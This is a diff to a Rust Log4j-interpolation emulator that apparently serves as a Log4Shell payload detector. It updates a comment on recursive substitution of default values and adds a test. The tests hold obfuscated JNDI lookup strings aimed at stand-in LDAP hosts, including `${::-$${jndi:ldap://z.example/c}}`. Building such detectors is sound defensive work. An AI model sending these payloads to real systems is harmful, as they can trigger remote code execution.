@@ -5,7 +5,10 @@
 //! step: `${` … `}` with nested variables counted, `$${` as an escape,
 //! variable names substituted before they are split on `:-` (and the escaped
 //! delimiter `:\-`), values substituted again recursively, cyclic variables
-//! left unresolved. Lookups go through an `Interpolator` whose prefix is
+//! left unresolved. One deliberate difference from 2.17+: every value,
+//! default values included, is substituted again, as 2.14.1 and the other
+//! exploitable versions do, so `${::-$${jndi:…}}` is a lookup here (2.17+
+//! leaves it literal; the oracle's corpus avoids that construct). Lookups go through an `Interpolator` whose prefix is
 //! lower-cased with `Locale.US`: `lower` and `upper` apply Java's (Unicode)
 //! case mappings, `date` formats patterns that are only quoted literals,
 //! `jndi` records its key and evaluates to `«jndi:KEY»`, and every other
@@ -389,6 +392,21 @@ mod tests {
         assert_eq!(
             evaluate("${::-${lower:$}{jndi:ldap://x/a}}").output,
             "${jndi:ldap://x/a}"
+        );
+    }
+
+    #[test]
+    fn values_are_substituted_again_as_in_the_vulnerable_versions() {
+        // 2.14.1 substitutes a default value again, so the escaped `$${` in it
+        // becomes a live lookup; 2.17+ leaves it literal. A detector follows
+        // the versions that can be exploited.
+        assert_eq!(
+            keys("${::-$${jndi:ldap://z.example/c}}"),
+            vec!["ldap://z.example/c"]
+        );
+        assert_eq!(
+            keys("${lower:$${jndi:LDAP://Y.Example/B}}"),
+            vec!["ldap://y.example/b"]
         );
     }
 
